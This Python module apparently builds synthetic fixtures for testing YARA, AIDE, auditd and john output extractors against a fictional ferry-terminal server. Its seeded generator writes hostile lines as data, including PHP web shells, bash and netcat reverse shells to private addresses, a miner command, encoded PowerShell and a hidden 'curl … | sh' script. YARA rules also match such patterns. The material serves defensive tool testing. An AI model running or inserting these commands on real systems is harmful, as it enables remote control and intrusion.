"""Round 102's local-file tools and the extractors of their kinds (NEEDLES.md, "Round 102"): YARA rules written here
over a copy of the `quayside` ferry terminal's servers (web root, scripts, configs, logs; a seeded generator plants
secrets, web shells, miners and reverse shells), YARA rules that do not compile, AIDE over the terminal's config tree
before and after a bad night (files changed, added, removed, made writable), audit logs generated here in the
kernel's record format read with ausearch and aureport, and john on hashes made here with weak passwords. Run through
capture_wide102.py."""

from __future__ import annotations

import os
import random
import re
import shutil
from collections import Counter
from pathlib import Path

import capture_more as cm
from capture_more import mask, run, write_tree
from capture_data import rule4
from capture_wide102 import cap

STATUS = re.compile(r"^EXIT=\d+$")


def _status(lines):
    """Rule 3: the `EXIT=N` line an agent's `; echo EXIT=$?` printed."""
    return [ln for ln in lines if STATUS.match(ln.strip())]


def _warn_groups(lines, pat):
    return cm.groups((mask(ln), ln) for ln in lines if re.search(pat, ln))


# ------------------------------------------------------------------ the extractors (rule 5 values, NEEDLES.md)

YARA_MATCH = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*( \[[^\]]*\])* \S")
YARA_STR = re.compile(r"^0x[0-9a-f]+:\$")


@cm.kind("yara-scan", "search")
def n_yara_scan(lines):
    """Rule 5: every match line (RULE [tags] [meta] path), the first string line (0x…:$name: …) under each match; every error: line, warning: lines one {"any"} per message shape."""
    out = []
    for i, ln in enumerate(lines):
        if YARA_MATCH.match(ln) and not ln.startswith(("error:", "warning:", "EXIT=")):
            out.append(ln)
            if i + 1 < len(lines) and YARA_STR.match(lines[i + 1]):
                out.append(lines[i + 1])
        elif re.match(r"^error", ln, re.I):
            out.append(ln)
    return out + _warn_groups(lines, r"^warning") + _status(lines)


@cm.kind("yara-compile-error", "build")
def n_yara_compile(lines):
    """Rules 1+5: every error: line (file, line, what is wrong); warning: lines one {"any"} per (message shape, file)."""
    out = [ln for ln in lines if re.match(r"^error", ln, re.I)]
    warn = []
    for ln in lines:
        if re.match(r"^warning", ln, re.I):
            m = re.search(r" in (\S+)\(\d+\)", ln)
            warn.append(((mask(re.sub(r'rule "[^"]*"', "", ln)), m.group(1) if m else ""), ln))
    return out + cm.groups(warn) + _status(lines)


AIDE_ENTRY = re.compile(r"^[a-zA-Z?!][ +\-=<>.:A-Za-z|]{6,}: (/\S.*)$")


@cm.kind("aide-init", "log")
def n_aide_init(lines):
    """Rule 5: the initialized-database line, the Number of entries line, the database attributes block's header, every error / warning line."""
    return [ln for ln in lines if re.search(r"initiali[sz]ed database|database written|Number of entries|"
                                            r"The attributes of the|error|warning", ln, re.I)] + _status(lines)


@cm.kind("aide-check", "log")
def n_aide_check(lines):
    """Rule 5: the verdict line, the Total / Added / Removed / Changed count lines, every entry line of the Added, Removed and Changed sections, every File: header of the detailed section, every error / warning line."""
    out, section = [], None
    for ln in lines:
        s = ln.strip()
        if re.search(r"found (NO )?differences|Total number of entries|^(Added|Removed|Changed) entries:\s+\d", s):
            out.append(ln)
        elif re.match(r"^(Added|Removed|Changed) entries:$", s):
            section = s
        elif s.startswith("Detailed information") or s.startswith("The attributes of"):
            section = None
        elif section and AIDE_ENTRY.match(ln):
            out.append(ln)
        if ln.startswith("File: /") or ln.startswith("Directory: /") or ln.startswith("Link: /"):
            out.append(ln)
        if re.search(r"\berror\b|^WARNING|warning:", ln, re.I):
            out.append(ln)
    return out + _status(lines)


AUDIT_FAIL = re.compile(r"success=no|res=failed|res=no\b|exit=-\d+|exit=E[A-Z]+")


@cm.kind("ausearch", "log")
def n_ausearch(lines):
    """Rule 5: every record line reporting a failure (success=no, res=failed / res=no, a negative exit= errno), the first and last record lines, <no matches>, and rule 4 on the records' type=."""
    recs = [ln for ln in lines if ln.startswith("type=")]
    out = [ln for ln in recs if AUDIT_FAIL.search(ln)]
    if recs:
        out += [recs[0], recs[-1]]
    out += [ln for ln in lines if "<no matches>" in ln]
    rows = [(ln, {"type": ln.split()[0]}) for ln in recs]
    return out + rule4(rows, cat=["type"]) + _status(lines)


SUMMARY_KEEP = re.compile(r"failed|anomaly|AVC", re.I)


@cm.kind("aureport-summary", "table")
def n_aureport_summary(lines):
    """Rule 5: the Range of time / Selected time lines, Number of events, every non-zero Number of failed / anomaly / AVC line; a table summary's title, header and the extremes of its total column."""
    out = []
    for ln in lines:
        if re.match(r"^(Range of time in logs|Selected time for report|Number of events):", ln):
            out.append(ln)
        m = re.match(r"^Number of (.*): (\d+)$", ln)
        if m and SUMMARY_KEEP.search(m.group(1)) and int(m.group(2)):
            out.append(ln)
    # table summaries: title (line above ====), header (line between ==== rules), rows "N  value"
    for i, ln in enumerate(lines):
        if re.match(r"^={5,}$", ln) and i and lines[i - 1].strip() and not re.match(r"^={5,}$", lines[i - 1]):
            out.append(lines[i - 1])
    rows = [(ln, {"total": ln.split()[0]}) for ln in lines if re.match(r"^\d+\s+\S", ln)]
    return out + rule4(rows, nums=["total"]) + _status(lines)


@cm.kind("aureport-report", "table")
def n_aureport_report(lines):
    """Rule 5: the report's title and column header, rule 4 on the numbered rows (every categorical column; the event number's extremes), every row whose file or exe occurs in at most 2 rows."""
    out = []
    header = None
    for i, ln in enumerate(lines):
        if ln.startswith("# "):
            header = ln.split()[1:]
            out.append(ln)
            if i >= 2:
                out.append(lines[i - 2])
    rows = []
    for ln in lines:
        m = re.match(r"^\d+\. (.*)$", ln)
        if m and header:
            f = m.group(1).split()
            rows.append((ln, dict(zip(header, f))))
    if not rows:
        return out + [ln for ln in lines if "<no events" in ln] + _status(lines)
    cols = [c for c in header if c not in ("date", "time", "event")]
    out += rule4(rows, cat=cols, nums=["event"])
    for c in ("file", "exe"):
        if c in header:
            cnt = Counter(r[1].get(c) for r in rows)
            out += [ln for ln, r in rows if cnt[r.get(c)] <= 2]
    return out + _status(lines)


@cm.kind("john-test", "table")
def n_john_test(lines):
    """Rule 5: every Benchmarking: line, the speed lines holding the run's slowest and fastest c/s (rule 4), every FAILED line, the closing self-test count line."""
    out = [ln for ln in lines if ln.startswith("Benchmarking:") or re.search(r"FAILED|passed self-tests|tests have",
                                                                                  ln)]
    rows = []
    for ln in lines:
        m = re.search(r":\s+([\d.]+)([KMG]?) c/s real", ln)
        if m:
            v = float(m.group(1)) * {"": 1, "K": 1e3, "M": 1e6, "G": 1e9}[m.group(2)]
            rows.append((ln, {"cs": str(v)}))
    return out + rule4(rows, nums=["cs"]) + _status(lines)


@cm.kind("john-crack", "log")
def n_john_crack(lines):
    """Rule 5: the Loaded line, every cracked-password line ("password (user)" / --show's user:password:…), the final status / aborted line, every No password hashes loaded / warning / error line, --show's cracked/left count."""
    out = []
    for ln in lines:
        if re.search(r"^Loaded \d+|No password hashes|password hash(es)? cracked|^Warning|[Ee]rror|Session aborted|"
                     r"\dg \d+:\d\d:\d\d:\d\d", ln):
            out.append(ln)
        elif re.match(r"^\S.*\s+\([^)]+\)\s*$", ln) and not ln.startswith(("Loaded", "Press", "Will run", "Using")):
            out.append(ln)
        elif re.match(r"^[a-z][\w.-]*:[^:\s]+:", ln):
            out.append(ln)
    return out + _status(lines)


# ------------------------------------------------------------------ YARA

YARA_RULES = r'''
import "hash"

rule Quay_AWS_Access_Key : secret cloud
{
    meta:
        severity = "high"
        owner = "ops"
    strings:
        $k = /AKIA[0-9A-Z]{16}/
    condition:
        $k
}

rule Quay_Private_Key : secret
{
    meta:
        severity = "high"
    strings:
        $rsa = "-----BEGIN RSA PRIVATE KEY-----"
        $oss = "-----BEGIN OPENSSH PRIVATE KEY-----"
    condition:
        any of them
}

rule Quay_PHP_Webshell : webshell
{
    meta:
        severity = "critical"
    strings:
        $e1 = "eval(base64_decode(" nocase
        $e2 = "assert($_POST[" nocase
        $e3 = "system($_GET[" nocase
    condition:
        filesize < 200KB and any of ($e*)
}

rule Quay_Reverse_Shell : backdoor
{
    meta:
        severity = "critical"
    strings:
        $b = /bash -i >& \/dev\/tcp\/[0-9.]+\/[0-9]+/
        $n = /nc(at)? -e \/bin\/(ba)?sh/
        $p = "socket.socket(socket.AF_INET" ascii
    condition:
        $b or $n or ($p and filesize < 20KB)
}

rule Quay_Miner : miner
{
    meta:
        severity = "medium"
    strings:
        $s = "stratum+tcp://" ascii wide
        $x = "xmrig" nocase
    condition:
        any of them
}

rule Quay_Encoded_PowerShell : dropper
{
    meta:
        severity = "medium"
    strings:
        $a = /powershell(\.exe)? -(e|enc|EncodedCommand) [A-Za-z0-9+\/=]{20,}/ nocase
    condition:
        $a
}

rule Quay_Hardcoded_DB_Password : secret
{
    meta:
        severity = "low"
    strings:
        $a = /DB_PASSWORD\s*=\s*['"][^'"]{4,}['"]/
    condition:
        $a
}
'''

YARA_DRAFT = r'''
rule Draft_Ticket_Skimmer
{
    strings:
        $card = /4[0-9]{12}(?:[0-9]{3})?/
        $post = "fetch('https://"
    condition:
        $card and $exfil
}

rule Draft_Webshell_Hex
{
    strings:
        $h = { 65 76 61 6C 28 ?? }
        $unused = "shell_exec"
    condition:
        $h
}

rule Draft_Size
{
    condition:
        filesize > 10XB
}

rule Draft_Import
{
    condition:
        pe.is_dll() and math.entropy(0, filesize) > 7.2
}

rule Draft_Short
{
    strings:
        $a = "ab"
        $b = { 00 }
    condition:
        all of them
}
'''

YARA_DRAFT2 = r'''
rule Draft_Manifest_Leak : secret
{
    strings:
        $m = "manifest_export"
        $m = "crew_list"
    condition:
        any of them
}

rule Draft_Miner_Wide
{
    strings:
        $w = "stratum+tcp://" wide ascii
    condition:
        #w > 2 and @w[1] < 100 and uint16(0) == 0x5A4D and
}

rule Draft_Hex_Jump
{
    strings:
        $j = { 4D 5A [0-] 50 45 }
    condition:
        $j
}
'''

YARA_DUP = r'''
rule Quay_Miner
{
    strings:
        $s = "minergate"
    condition:
        $s
}
'''

WORDS = ("berth manifest ticket quay harbour ferry tide crew cargo gangway pier dock lane vessel port starboard "
         "ballast fender bollard mooring slipway").split()


def make_srv(root: Path, seed: int, n: int = 420) -> int:
    """The terminal's server copy: n files, about half with something planted; returns how many planted."""
    rng = random.Random(seed)
    planted = 0
    dirs = ["www/html", "www/html/uploads", "www/api", "opt/quay/bin", "opt/quay/etc", "home/ops", "home/deploy",
            "var/log/quay", "tmp/cache", "etc/cron.d"]
    plants = [
        lambda: "aws_key = AKIA" + "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") for _ in range(16)),
        lambda: "-----BEGIN RSA PRIVATE KEY-----\nMIIEow" + "x" * 40 + "\n-----END RSA PRIVATE KEY-----",
        lambda: "<?php @eval(base64_decode($_POST['%s'])); ?>" % rng.choice(WORDS),
        lambda: "<?php if(isset($_GET['c'])){ system($_GET['c']); } ?>",
        lambda: "bash -i >& /dev/tcp/10.%d.%d.%d/%d 0>&1" % (rng.randrange(256), rng.randrange(256),
                                                           rng.randrange(256), rng.choice([4444, 9001, 53])),
        lambda: "nc -e /bin/sh 10.0.%d.%d 4444" % (rng.randrange(256), rng.randrange(256)),
        lambda: "./xmrig -o stratum+tcp://pool.%s.example:3333 -u wallet" % rng.choice(WORDS),
        lambda: "powershell -enc " + "".join(rng.choice("ABCDEFGHabcdefgh0123456789+/") for _ in range(48)),
        lambda: "DB_PASSWORD = '%s%d'" % (rng.choice(WORDS), rng.randrange(100, 999)),
    ]
    for i in range(n):
        d = rng.choice(dirs)
        ext = rng.choice([".php", ".sh", ".py", ".conf", ".log", ".txt", ".js"])
        body = [" ".join(rng.choice(WORDS) for _ in range(rng.randrange(6, 14))) for _ in range(rng.randrange(5, 40))]
        if rng.random() < 0.45:
            for _ in range(rng.choice([1, 1, 1, 2])):
                body.insert(rng.randrange(len(body) + 1), rng.choice(plants)())
            planted += 1
        p = root / d / f"{rng.choice(WORDS)}_{i:03d}{ext}"
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text("\n".join(body) + "\n")
    return planted


def cap_yara(tmp: Path) -> None:
    d = tmp / "yara"
    write_tree(d, {"rules/quayside.yar": YARA_RULES, "rules/draft.yar": YARA_DRAFT, "rules/dup.yar": YARA_DUP,
                "rules/draft2.yar": YARA_DRAFT2})
    make_srv(d / "srv", 10201)
    make_srv(d / "srv-small", 10202, n=40)
    cap("yara-s-r-full", "yara -s -r rules/quayside.yar srv/", d, n_yara_scan)
    cap("yara-g-m-r-sorted", "yara -g -m -r rules/quayside.yar srv/ | sort", d, n_yara_scan)
    cap("yara-s-r-tail", "yara -s -r rules/quayside.yar srv/ 2>&1 | tail -n 80", d, n_yara_scan)
    cap("yara-s-small-echo", "yara -s -r rules/quayside.yar srv-small/; echo EXIT=$?", d, n_yara_scan)
    cap("yara-www-webshell", "yara -r -s -t webshell -t backdoor rules/quayside.yar srv/www", d, n_yara_scan)
    cap("yara-draft-errors-echo", "for f in rules/draft.yar rules/draft2.yar; do echo \"== $f\"; yara $f srv-small/; "
        "done; echo EXIT=$?; yarac rules/quayside.yar rules/dup.yar quay.yarc; echo EXIT=$?", d, n_yara_compile)


# ------------------------------------------------------------------ AIDE

AIDE_CONF = """database_in=file:{d}/aide.db
database_out=file:{d}/aide.db.new
gzip_dbout=no
report_url=stdout
Quay = p+u+g+s+m+sha256
{d}/etc Quay
{d}/opt Quay
!{d}/opt/quay/cache
"""


def make_etc(root: Path, seed: int, n: int) -> list[Path]:
    rng = random.Random(seed)
    files = []
    for i in range(n):
        sub = rng.choice(["etc/quay", "etc/quay/conf.d", "etc/nginx/sites", "opt/quay/bin", "opt/quay/lib",
                          "opt/quay/share"])
        p = root / sub / f"{rng.choice(WORDS)}-{i:03d}.{rng.choice(['conf', 'so', 'sh', 'json', 'ini'])}"
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text("\n".join(f"{rng.choice(WORDS)} = {rng.randrange(1000)}" for _ in range(rng.randrange(3, 30))))
        files.append(p)
    return files


def cap_aide(tmp: Path) -> None:
    d = tmp / "aide"
    d.mkdir(parents=True)
    (d / "aide.conf").write_text(AIDE_CONF.format(d=d))
    files = make_etc(d, 10203, 520)
    cap("aide-init", "aide --config=aide.conf --init", d, n_aide_init)
    shutil.move(d / "aide.db.new", d / "aide.db")
    cap("aide-check-clean-echo", "aide --config=aide.conf --check; echo EXIT=$?", d, n_aide_check)
    # a small change first: one config edited, one script added
    files[5].write_text(files[5].read_text() + "\nlisten = 0.0.0.0\n")
    (d / "opt/quay/bin/.update.sh").write_text("curl -s http://10.9.9.9/x | sh\n")
    cap("aide-check-small-echo", "aide --config=aide.conf --check; echo EXIT=$?", d, n_aide_check)
    shutil.copy(d / "aide.db", d / "aide.db.base")
    # the bad night: many changed, added, removed, made writable
    rng = random.Random(10204)
    for p in rng.sample(files, 110):
        if p.exists():
            p.write_text(p.read_text() + f"\n# {rng.choice(WORDS)} {rng.randrange(99)}\n")
    for p in rng.sample(files, 25):
        if p.exists():
            p.chmod(0o777)
    for p in rng.sample(files, 30):
        if p.exists():
            p.unlink()
    for i in range(35):
        p = d / rng.choice(["opt/quay/bin", "etc/quay/conf.d", "opt/quay/lib"]) / f".{rng.choice(WORDS)}{i}"
        p.write_text("payload %d\n" % i)
    cap("aide-check-many", "aide --config=aide.conf --check", d, n_aide_check)
    cap("aide-check-head-100", "aide --config=aide.conf --check 2>&1 | head -n 100", d, n_aide_check)
    cap("aide-check-grep-v-space", "aide -c aide.conf -C | grep -v '^ '", d, n_aide_check)


# ------------------------------------------------------------------ auditd's ausearch and aureport

def make_audit_log(path: Path, seed: int, n: int) -> None:
    """n events in the kernel's record format, a day at the terminal: file watches, logins, commands, crashes."""
    rng = random.Random(seed)
    t = 1764576000.0
    serial = 8100
    users = [1201, 1202, 1203, 1204, 1205]
    watched = [("/etc/shadow", "shadow"), ("/etc/quay/secrets.ini", "quay-secrets"), ("/etc/sudoers", "sudoers"),
               ("/opt/quay/etc/db.conf", "quay-db"), ("/var/lib/quay/manifest.db", "manifest")]
    exes = ["/usr/bin/cat", "/usr/bin/vim.basic", "/usr/bin/python3.11", "/opt/quay/bin/ticketd", "/usr/bin/less"]
    addrs = ["10.20.0.%d" % i for i in (4, 5, 9)] + ["203.0.113.%d" % i for i in (7, 66)]
    out = []
    for _ in range(n):
        t += rng.uniform(5, 180)
        serial += 1
        stamp = f"audit({t:.3f}:{serial})"
        r = rng.random()
        if r < 0.45:
            f, key = rng.choice(watched)
            uid = rng.choice(users + [0, 0])
            ok = uid == 0 or rng.random() < 0.35
            exe = rng.choice(exes)
            comm = exe.rsplit("/", 1)[1][:15]
            res = "success=yes exit=3" if ok else "success=no exit=-13"
            out.append(f"type=SYSCALL msg={stamp}: arch=c000003e syscall=257 {res} a0=ffffff9c a1=55d0c2 a2=0 a3=0 "
                       f"items=1 ppid={rng.randrange(800, 990)} pid={rng.randrange(1000, 9000)} auid={uid} uid={uid} "
                       f"gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=pts0 "
                       f"ses={rng.randrange(1, 9)} comm=\"{comm}\" exe=\"{exe}\" subj=unconfined key=\"{key}\"")
            out.append(f"type=CWD msg={stamp}: cwd=\"/home/ops\"")
            out.append(f"type=PATH msg={stamp}: item=0 name=\"{f}\" inode={rng.randrange(1000, 99999)} dev=08:01 "
                       f"mode=0100640 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 "
                       f"cap_frootid=0")
        elif r < 0.75:
            acct = rng.choice(["root", "ops", "deploy", "admin", "ubuntu"])
            addr = rng.choice(addrs)
            ok = addr.startswith("10.") and acct in ("ops", "deploy") and rng.random() < 0.9
            typ = rng.choice(["USER_AUTH", "USER_AUTH", "USER_LOGIN"])
            op = "PAM:authentication" if typ == "USER_AUTH" else "login"
            out.append(f"type={typ} msg={stamp}: pid={rng.randrange(1000, 9000)} uid=0 auid=4294967295 "
                       f"ses=4294967295 subj=unconfined msg='op={op} grantors={'pam_unix' if ok else '?'} "
                       f"acct=\"{acct}\" exe=\"/usr/sbin/sshd\" hostname={addr} addr={addr} terminal=ssh "
                       f"res={'success' if ok else 'failed'}'")
        elif r < 0.93:
            uid = rng.choice(users)
            cmd = rng.choice(["/usr/bin/systemctl restart ticketd", "/usr/bin/journalctl -u ticketd",
                              "/usr/bin/apt-get update", "/usr/bin/cat /var/log/quay/app.log"])
            ok = rng.random() < 0.8
            out.append(f"type=USER_CMD msg={stamp}: pid={rng.randrange(1000, 9000)} uid={uid} auid={uid} ses=3 "
                       f"subj=unconfined msg='cwd=\"/home/ops\" cmd={cmd.encode().hex().upper()} terminal=pts/0 "
                       f"res={'success' if ok else 'failed'}'")
        elif r < 0.985:
            out.append(f"type=SERVICE_START msg={stamp}: pid=1 uid=0 auid=4294967295 ses=4294967295 "
                       f"subj=unconfined msg='unit=ticketd comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" "
                       f"hostname=? addr=? terminal=? res=success'")
        elif r < 0.9875:
            # the intruder's helper reading secrets: rare rows among the file watches
            f, key = rng.choice(watched[:2])
            out.append(f"type=SYSCALL msg={stamp}: arch=c000003e syscall=257 success=no exit=-13 a0=ffffff9c a1=55d0c2 "
                       f"a2=0 a3=0 items=1 ppid=1 pid={rng.randrange(1000, 9000)} auid=1299 uid=1299 gid=1299 "
                       f"euid=1299 suid=1299 fsuid=1299 egid=1299 sgid=1299 fsgid=1299 tty=(none) ses=9 "
                       f"comm=\"kworkerd\" exe=\"/dev/shm/.k/kworkerd\" subj=unconfined key=\"{key}\"")
            out.append(f"type=PATH msg={stamp}: item=0 name=\"{f}\" inode=4242 dev=08:01 mode=0100640 ouid=0 ogid=0 "
                       f"rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0")
        else:
            out.append(f"type=ANOM_ABEND msg={stamp}: auid=1203 uid=1203 gid=1203 ses=3 subj=unconfined "
                       f"pid={rng.randrange(1000, 9000)} comm=\"ticketd\" exe=\"/opt/quay/bin/ticketd\" sig=11 res=1")
    path.write_text("\n".join(out) + "\n")


def cap_audit(tmp: Path) -> None:
    d = tmp / "audit"
    d.mkdir(parents=True)
    make_audit_log(d / "audit.log", 10205, 700)
    make_audit_log(d / "audit-night.log", 10206, 160)
    L = "-if audit.log"
    cap("ausearch-k-shadow-i", f"ausearch {L} -i -k shadow", d, n_ausearch)
    cap("ausearch-failed-auth", f"ausearch {L} -i -m USER_AUTH,USER_LOGIN --success no", d, n_ausearch)
    cap("ausearch-night-all-i", "ausearch -if audit-night.log -i", d, n_ausearch)
    cap("ausearch-exe-ticketd-echo", f"ausearch {L} -i -x /opt/quay/bin/ticketd; echo EXIT=$?", d, n_ausearch)
    cap("ausearch-success-no-tail", f"ausearch {L} -i --success no 2>&1 | tail -n 80", d, n_ausearch)
    cap("ausearch-raw-key-secrets", f"ausearch {L} -k quay-secrets --success no", d, n_ausearch)
    cap("aureport-summary", f"aureport {L} --summary", d, n_aureport_summary)
    cap("aureport-au-x-summary-echo", f"aureport {L} -au --summary -i; aureport {L} -x --summary -i; "
        f"aureport {L} --failed --summary; echo EXIT=$?",
        d, n_aureport_summary)
    cap("aureport-f-i-failed", f"aureport {L} -f -i --failed", d, n_aureport_report)
    cap("aureport-au-i-failed-grep", f"aureport {L} -au -i --failed | grep -v ' ops '", d, n_aureport_report)
    cap("aureport-anomaly-login", "aureport -if audit-night.log -l -i; aureport -if audit.log --anomaly -i", d,
        n_aureport_report)


# ------------------------------------------------------------------ john

def cap_john(tmp: Path) -> None:
    d = tmp / "john"
    d.mkdir(parents=True)
    env = {"HOME": str(d), "OMP_NUM_THREADS": "1"}
    rng = random.Random(10207)
    weak = ["harbour1", "ferry2024", "password", "quayside", "letmein", "Summer25", "tide123", "crew", "admin"]
    strong = ["".join(rng.choice("abcdefghjkmnpqrstuvwxyzABCDEFGH23456789!#") for _ in range(14)) for _ in range(20)]
    names = [f"{w}{i}" for i, w in enumerate(rng.choices(["ops", "deck", "purser", "agent", "mate", "bosun"], k=26))]
    lines = []
    for i, user in enumerate(names):
        pw = weak[i % len(weak)] if i % 3 == 0 else (user if i % 7 == 1 else strong[i % len(strong)])
        salt = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(8))
        h = run(f"openssl passwd -1 -salt {salt} '{pw}'").strip()
        lines.append(f"{user}:{h}:{1300 + i}:{1300 + i}:{user.title()} Crew:/home/{user}:/bin/bash")
    (d / "shadow.txt").write_text("\n".join(lines) + "\n")
    words = weak + [f"{rng.choice(WORDS)}{rng.randrange(100)}" for _ in range(1500)]
    rng.shuffle(words)
    (d / "words.txt").write_text("\n".join(words) + "\n")
    # john 1.9 (core) keeps its pot in the user's ~/.john whatever HOME says and has no --pot: the step moves
    # a pot already there aside and puts it back after, so every run starts from no cracked passwords
    jdir = Path(os.path.expanduser("~root/.john")) if os.geteuid() == 0 else Path.home() / ".john"
    had_dir, pot = jdir.exists(), jdir / "john.pot"
    saved = jdir / "john.pot.before-wide102"
    if pot.exists():
        pot.rename(saved)
    try:
        _john_items(d, env)
    finally:
        pot.unlink(missing_ok=True)
        (jdir / "john.rec").unlink(missing_ok=True)
        if saved.exists():
            saved.rename(pot)
        elif not had_dir:
            shutil.rmtree(jdir, ignore_errors=True)


def _john_items(d: Path, env: dict) -> None:
    cap("john-test-1", "john --test=1", d, n_john_test, env=env)
    cap("john-test-0-echo", "john --test=0 --format=md5crypt; john --test=0 --format=bcrypt; echo EXIT=$?", d,
        n_john_test, env=env)
    cap("john-single-wordlist-echo", "john --single shadow.txt; "
        "john --wordlist=words.txt shadow.txt; echo EXIT=$?", d,
        n_john_crack, env=env, timeout=400)
    cap("john-show-echo", "john --show shadow.txt; echo EXIT=$?", d, n_john_crack, env=env)
    cap("john-wrong-format-echo", "john --format=bcrypt --wordlist=words.txt shadow.txt; echo EXIT=$?; "
        "john --show shadow.txt", d, n_john_crack, env=env)


STEPS = [cap_yara, cap_aide, cap_audit, cap_john]
